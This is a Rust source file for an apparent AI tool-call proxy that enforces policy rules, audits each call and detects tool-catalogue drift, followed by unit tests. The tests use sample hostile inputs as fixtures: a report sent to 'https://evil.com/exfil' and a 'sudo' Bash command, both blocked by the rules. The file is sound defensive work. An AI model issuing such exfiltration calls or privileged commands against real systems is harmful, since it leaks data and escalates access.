// bifrost-core/src/runtime/proxy.rs
// ============================================================================
// Module: Bifrost Proxy
// Description: The per-request state machine tying rate limiting, policy
//              evaluation, downstream dispatch, audit inscription, sink
//              fan-out, the live bus, and drift detection together.
// Purpose: Implement the one-request lifecycle described by the
//          specification's concurrency and ordering model.
// Dependencies: crate::{ward_engine, runechain, drift, live_bus, interfaces}
// ============================================================================

//! ## Overview
//! [`BifrostProxy`] is generic over the storage adapter and the downstream
//! transport so a transport crate can bind it to a concrete
//! `RunechainStore` and `DownstreamClient` without this crate knowing about
//! either. The hot path follows the specification's fixed order: rate-limit
//! record, evaluate, downstream call (unless HALT), inscribe, emit.

// ============================================================================
// SECTION: Imports
// ============================================================================

use std::sync::Arc;

use serde_json::Value;
use thiserror::Error;

use crate::drift::DriftError;
use crate::drift::canonical_tools_hash;
use crate::drift::diff_tool_catalogues;
use crate::identifiers::ServerId;
use crate::interfaces::DownstreamClient;
use crate::interfaces::DownstreamError;
use crate::interfaces::RateLimitProvider;
use crate::interfaces::RunechainStore;
use crate::interfaces::Sink;
use crate::live_bus::LiveBus;
use crate::live_bus::LiveEvent;
use crate::model::DriftAction;
use crate::model::DriftChange;
use crate::model::DriftConfig;
use crate::model::Rune;
use crate::model::ToolBaseline;
use crate::model::ToolCallContext;
use crate::model::ToolDescriptor;
use crate::model::WardDecision;
use crate::risk;
use crate::runechain::Runechain;
use crate::runechain::RunechainError;
use crate::runechain::redact_and_summarize;
use crate::time::Timestamp;
use crate::ward_engine::WardEngine;

// ============================================================================
// SECTION: Errors
// ============================================================================

/// Errors the proxy itself may surface to the caller. Downstream transport
/// failures are carried inside a successful [`CallOutcome`] instead, since
/// the audit invariant requires the rune to be inscribed either way.
#[derive(Debug, Error)]
pub enum ProxyError {
    /// The rune could not be persisted. The audit invariant is
    /// non-negotiable, so this surfaces even when the downstream call
    /// already succeeded.
    #[error("audit inscription failed: {0}")]
    Audit(#[from] RunechainError),
    /// The downstream transport failed while listing tools.
    #[error("downstream transport error: {0}")]
    Downstream(#[from] DownstreamError),
    /// Canonical catalogue hashing failed while checking for drift.
    #[error("drift detection error: {0}")]
    Drift(#[from] DriftError),
    /// Drift was detected and the configured drift action is `HALT`.
    #[error("tool catalogue drift halted the request: {} change(s) detected", .0.len())]
    DriftHalted(Vec<DriftChange>),
}

// ============================================================================
// SECTION: Outcomes
// ============================================================================

/// The result of one `callTool` request.
#[derive(Debug, Clone)]
pub struct CallOutcome {
    /// The rune inscribed for this call.
    pub rune: Rune,
    /// The downstream result, or `None` when the call was never forwarded
    /// (a HALT decision with `dry_run` disabled).
    pub downstream_result: Option<Result<Value, DownstreamErrorSnapshot>>,
    /// Sink names that failed to accept this rune, paired with the failure
    /// message. Each failure is absorbed; none of these abort the call.
    pub sink_failures: Vec<(String, String)>,
}

/// A cloneable snapshot of a [`DownstreamError`], since the original type is
/// not `Clone`.
#[derive(Debug, Clone)]
pub struct DownstreamErrorSnapshot(
    /// Rendered error message, captured via `ToString`.
    pub String,
);

impl From<&DownstreamError> for DownstreamErrorSnapshot {
    fn from(err: &DownstreamError) -> Self {
        Self(err.to_string())
    }
}

/// The result of one `listTools` request.
#[derive(Debug, Clone)]
pub struct ListToolsOutcome {
    /// The tool catalogue returned by the downstream provider.
    pub tools: Vec<ToolDescriptor>,
    /// Structural changes detected against the stored baseline; empty when
    /// this is the first catalogue observed or nothing changed.
    pub changes: Vec<DriftChange>,
}

// ============================================================================
// SECTION: Bifrost Proxy
// ============================================================================

/// The policy-enforcing interception proxy: one runechain, one rate limiter,
/// and one downstream session for the life of the process.
pub struct BifrostProxy<S: RunechainStore, D: DownstreamClient> {
    /// Compiled ward set.
    ward_engine: WardEngine,
    /// The owned runechain.
    runechain: Runechain<S>,
    /// Shared sliding-window call counter.
    rate_limiter: Arc<dyn RateLimitProvider>,
    /// Audit fan-out destinations.
    sinks: Vec<Arc<dyn Sink>>,
    /// Live subscriber fan-out.
    live_bus: Arc<LiveBus>,
    /// Drift-handling configuration.
    drift: DriftConfig,
    /// When set, a HALT decision still forwards the call; the rune records
    /// the engine's decision with the actual response attached.
    dry_run: bool,
    /// The downstream session, serialized by construction (one proxy, one
    /// session, pipelined requests).
    downstream: D,
}

impl<S: RunechainStore, D: DownstreamClient> BifrostProxy<S, D> {
    /// Builds a proxy from its fully-constructed collaborators.
    #[must_use]
    pub fn new(
        ward_engine: WardEngine,
        runechain: Runechain<S>,
        rate_limiter: Arc<dyn RateLimitProvider>,
        sinks: Vec<Arc<dyn Sink>>,
        live_bus: Arc<LiveBus>,
        drift: DriftConfig,
        dry_run: bool,
        downstream: D,
    ) -> Self {
        Self { ward_engine, runechain, rate_limiter, sinks, live_bus, drift, dry_run, downstream }
    }

    /// Runs one `callTool` request through the full policy lifecycle:
    /// rate-limit record, evaluate, downstream call (unless HALT), inscribe,
    /// emit.
    ///
    /// # Errors
    ///
    /// Returns [`ProxyError::Audit`] if the rune cannot be persisted; the
    /// audit invariant means this is surfaced even when the downstream call
    /// already succeeded.
    pub fn call_tool(&mut self, ctx: ToolCallContext) -> Result<CallOutcome, ProxyError> {
        self.rate_limiter.record(&ctx.session_id, &ctx.tool_name);
        let eval = self.ward_engine.evaluate(&ctx);

        let forward = eval.decision != WardDecision::Halt || self.dry_run;
        let (response_summary, duration_ms, downstream_result) = if forward {
            let arguments = eval.reshaped_arguments.clone().unwrap_or_else(|| ctx.arguments.clone());
            let payload = serde_json::to_value(&arguments).unwrap_or(Value::Null);
            let started = Timestamp::now();
            let outcome = self.downstream.call_tool(&ctx.tool_name, &payload);
            let duration_ms = Timestamp::now().since_ms(&started);
            match outcome {
                Ok(value) => {
                    let summary = redact_and_summarize(&serde_json::to_string(&value).unwrap_or_default());
                    (Some(summary), Some(duration_ms), Some(Ok(value)))
                }
                Err(err) => {
                    let summary = redact_and_summarize(&err.to_string());
                    let snapshot = DownstreamErrorSnapshot::from(&err);
                    (Some(summary), Some(duration_ms), Some(Err(snapshot)))
                }
            }
        } else {
            (None, None, None)
        };

        let risk_assessment = risk::assess(&eval);
        let rune = self.runechain.inscribe(&ctx, &eval, response_summary, duration_ms, Some(risk_assessment))?;

        let mut sink_failures = Vec::new();
        for sink in &self.sinks {
            if let Err(err) = sink.emit(&rune) {
                sink_failures.push((sink.name().to_string(), err.to_string()));
            }
        }
        self.live_bus.publish(LiveEvent::Rune(rune.clone()));

        Ok(CallOutcome { rune, downstream_result, sink_failures })
    }

    /// Runs one `listTools` request, detecting drift against the stored
    /// baseline for `server_id` and handling it per the configured
    /// [`DriftAction`]. A pending baseline is always recorded when the
    /// catalogue has changed, regardless of the configured action.
    ///
    /// # Errors
    ///
    /// Returns [`ProxyError::Downstream`] on transport failure,
    /// [`ProxyError::Audit`] if baseline persistence fails, and
    /// [`ProxyError::DriftHalted`] when drift is detected and
    /// `drift.action == HALT`.
    pub fn list_tools(&mut self, server_id: &ServerId) -> Result<ListToolsOutcome, ProxyError> {
        let tools = self.downstream.list_tools()?;
        let tools_hash = canonical_tools_hash(&tools)?;
        let now = Timestamp::now();

        let Some(baseline) = self.runechain.get_baseline(server_id)? else {
            self.runechain.set_baseline(ToolBaseline {
                server_id: server_id.clone(),
                tools_hash,
                tools_snapshot: tools.clone(),
                first_seen: now,
                last_verified: now,
            })?;
            return Ok(ListToolsOutcome { tools, changes: Vec::new() });
        };

        if baseline.tools_hash == tools_hash {
            self.runechain.set_baseline(ToolBaseline { last_verified: now, ..baseline })?;
            return Ok(ListToolsOutcome { tools, changes: Vec::new() });
        }

        let changes = diff_tool_catalogues(&baseline.tools_snapshot, &tools);
        self.runechain.set_pending_baseline(ToolBaseline {
            server_id: server_id.clone(),
            tools_hash,
            tools_snapshot: tools.clone(),
            first_seen: now,
            last_verified: now,
        })?;

        match self.drift.action {
            DriftAction::Log => {}
            DriftAction::Warn => self.live_bus.publish(LiveEvent::Drift(changes.clone())),
            DriftAction::Halt => {
                self.live_bus.publish(LiveEvent::Drift(changes.clone()));
                return Err(ProxyError::DriftHalted(changes));
            }
        }

        Ok(ListToolsOutcome { tools, changes })
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "Tests use unwrap on deterministic fixtures.")]
    #![allow(clippy::expect_used, reason = "Tests use expect for explicit failure messages.")]
    use std::collections::BTreeMap;
    use std::sync::Mutex;

    use serde_json::json;

    use super::*;
    use crate::identifiers::SessionId;
    use crate::interfaces::SinkError;
    use crate::model::Ward;
    use crate::model::WardCondition;
    use crate::rate_limit::InMemoryRateLimiter;
    use crate::runtime::InMemoryRunechainStore;

    struct StubDownstream {
        tools: Vec<ToolDescriptor>,
        call_result: Result<Value, DownstreamError>,
        calls: Vec<(String, Value)>,
    }

    impl DownstreamClient for StubDownstream {
        fn list_tools(&mut self) -> Result<Vec<ToolDescriptor>, DownstreamError> {
            Ok(self.tools.clone())
        }

        fn call_tool(&mut self, tool_name: &str, arguments: &Value) -> Result<Value, DownstreamError> {
            self.calls.push((tool_name.to_string(), arguments.clone()));
            match &self.call_result {
                Ok(value) => Ok(value.clone()),
                Err(DownstreamError::Transport(msg)) => Err(DownstreamError::Transport(msg.clone())),
                Err(DownstreamError::ToolError(msg)) => Err(DownstreamError::ToolError(msg.clone())),
            }
        }
    }

    struct CollectingSink {
        runes: Mutex<Vec<Rune>>,
    }

    impl Sink for CollectingSink {
        fn name(&self) -> &str {
            "collecting"
        }

        fn emit(&self, rune: &Rune) -> Result<(), SinkError> {
            self.runes.lock().unwrap_or_else(std::sync::PoisonError::into_inner).push(rune.clone());
            Ok(())
        }
    }

    fn ctx(tool: &str, arguments: BTreeMap<String, Value>) -> ToolCallContext {
        ToolCallContext { tool_name: tool.to_string(), arguments, session_id: SessionId::new("sess-1"), agent_id: None, server_id: None }
    }

    fn build_proxy(
        wards: Vec<Ward>,
        call_result: Result<Value, DownstreamError>,
    ) -> BifrostProxy<InMemoryRunechainStore, StubDownstream> {
        let ward_engine = WardEngine::new(wards, WardDecision::Pass).expect("wards compile");
        let runechain = Runechain::new(InMemoryRunechainStore::new());
        let rate_limiter = Arc::new(InMemoryRateLimiter::new());
        let downstream = StubDownstream { tools: Vec::new(), call_result, calls: Vec::new() };
        BifrostProxy::new(ward_engine, runechain, rate_limiter, Vec::new(), Arc::new(LiveBus::new()), DriftConfig::default(), false, downstream)
    }

    #[test]
    fn halt_on_external_endpoint_skips_downstream_and_inscribes_halt() {
        let ward = Ward {
            id: "block-external-endpoints".into(),
            description: None,
            tool: "send_report".to_string(),
            when: WardCondition {
                argument_matches: Some(BTreeMap::from([(
                    "endpoint".to_string(),
                    r"https?://(?!.*\.internal).*".to_string(),
                )])),
                ..WardCondition::default()
            },
            action: WardDecision::Halt,
            message: "external endpoint blocked".to_string(),
            severity: crate::model::WardSeverity::High,
            reshape: None,
        };
        let mut proxy = build_proxy(vec![ward], Ok(json!({"status": "sent"})));
        let arguments = BTreeMap::from([
            ("endpoint".to_string(), json!("https://evil.com/exfil")),
            ("data".to_string(), json!("x")),
        ]);
        let outcome = proxy.call_tool(ctx("send_report", arguments)).expect("call");

        assert_eq!(outcome.rune.decision, WardDecision::Halt);
        assert!(outcome.downstream_result.is_none());
        assert!(outcome.rune.response_summary.is_none());
        assert_eq!(outcome.rune.matched_wards.len(), 1);
    }

    #[test]
    fn pass_with_safe_command_records_response_summary_and_duration() {
        let mut proxy = build_proxy(Vec::new(), Ok(json!({"files": ["a.txt"]})));
        let arguments = BTreeMap::from([("directory".to_string(), json!("/tmp/demo"))]);
        let outcome = proxy.call_tool(ctx("list_files", arguments)).expect("call");

        assert_eq!(outcome.rune.decision, WardDecision::Pass);
        assert!(outcome.rune.matched_wards.is_empty());
        assert!(outcome.rune.response_summary.is_some());
        assert!(outcome.downstream_result.is_some());
    }

    #[test]
    fn priority_arbitration_prefers_halt_and_reports_halt_rationale() {
        let pass_all = Ward {
            id: "pass-all".into(),
            description: None,
            tool: "Bash".to_string(),
            when: WardCondition::default(),
            action: WardDecision::Pass,
            message: "logged".to_string(),
            severity: crate::model::WardSeverity::Low,
            reshape: None,
        };
        let halt_sudo = Ward {
            id: "halt-sudo".into(),
            description: None,
            tool: "Bash".to_string(),
            when: WardCondition {
                argument_matches: Some(BTreeMap::from([("command".to_string(), "sudo ".to_string())])),
                ..WardCondition::default()
            },
            action: WardDecision::Halt,
            message: "sudo blocked".to_string(),
            severity: crate::model::WardSeverity::Critical,
            reshape: None,
        };
        let mut proxy = build_proxy(vec![pass_all, halt_sudo], Ok(Value::Null));
        let arguments = BTreeMap::from([("command".to_string(), json!("sudo apt install"))]);
        let outcome = proxy.call_tool(ctx("Bash", arguments)).expect("call");

        assert_eq!(outcome.rune.decision, WardDecision::Halt);
        assert_eq!(outcome.rune.matched_wards.len(), 2);
        assert_eq!(outcome.rune.rationale, "sudo blocked");
    }

    #[test]
    fn drift_on_tool_addition_is_reported_and_pending_baseline_recorded() {
        let mut proxy = build_proxy(Vec::new(), Ok(Value::Null));
        proxy.downstream.tools = vec![
            ToolDescriptor { name: "list_files".to_string(), description: None, input_schema: None },
            ToolDescriptor { name: "read_file".to_string(), description: None, input_schema: None },
        ];
        let server = ServerId::new("srv-1");
        proxy.list_tools(&server).expect("first listing establishes baseline");

        proxy.downstream.tools.push(ToolDescriptor {
            name: "send_report".to_string(),
            description: None,
            input_schema: None,
        });
        proxy.drift.action = DriftAction::Warn;
        let outcome = proxy.list_tools(&server).expect("second listing detects drift");

        assert_eq!(outcome.changes.len(), 1);
        assert_eq!(outcome.changes[0].tool_name, "send_report");
        assert_eq!(outcome.changes[0].severity, crate::model::WardSeverity::High);
        assert!(proxy.runechain.get_pending_baseline(&server).expect("get pending").is_some());
    }

    #[test]
    fn drift_with_halt_action_fails_the_request() {
        let mut proxy = build_proxy(Vec::new(), Ok(Value::Null));
        proxy.downstream.tools = vec![ToolDescriptor { name: "list_files".to_string(), description: None, input_schema: None }];
        let server = ServerId::new("srv-1");
        proxy.list_tools(&server).expect("baseline");

        proxy.downstream.tools.push(ToolDescriptor { name: "send_report".to_string(), description: None, input_schema: None });
        proxy.drift.action = DriftAction::Halt;
        let result = proxy.list_tools(&server);
        assert!(matches!(result, Err(ProxyError::DriftHalted(_))));
    }

    #[test]
    fn sink_emission_failure_is_absorbed_and_reported_in_outcome() {
        struct FailingSink;
        impl Sink for FailingSink {
            fn name(&self) -> &str {
                "failing"
            }
            fn emit(&self, _rune: &Rune) -> Result<(), SinkError> {
                Err(SinkError::Emit("boom".to_string()))
            }
        }

        let ward_engine = WardEngine::new(Vec::new(), WardDecision::Pass).expect("wards compile");
        let runechain = Runechain::new(InMemoryRunechainStore::new());
        let rate_limiter = Arc::new(InMemoryRateLimiter::new());
        let downstream = StubDownstream { tools: Vec::new(), call_result: Ok(Value::Null), calls: Vec::new() };
        let mut proxy = BifrostProxy::new(
            ward_engine,
            runechain,
            rate_limiter,
            vec![Arc::new(FailingSink)],
            Arc::new(LiveBus::new()),
            DriftConfig::default(),
            false,
            downstream,
        );
        let outcome = proxy.call_tool(ctx("list_files", BTreeMap::new())).expect("call");
        assert_eq!(outcome.sink_failures.len(), 1);
        assert_eq!(outcome.sink_failures[0].0, "failing");
    }
}
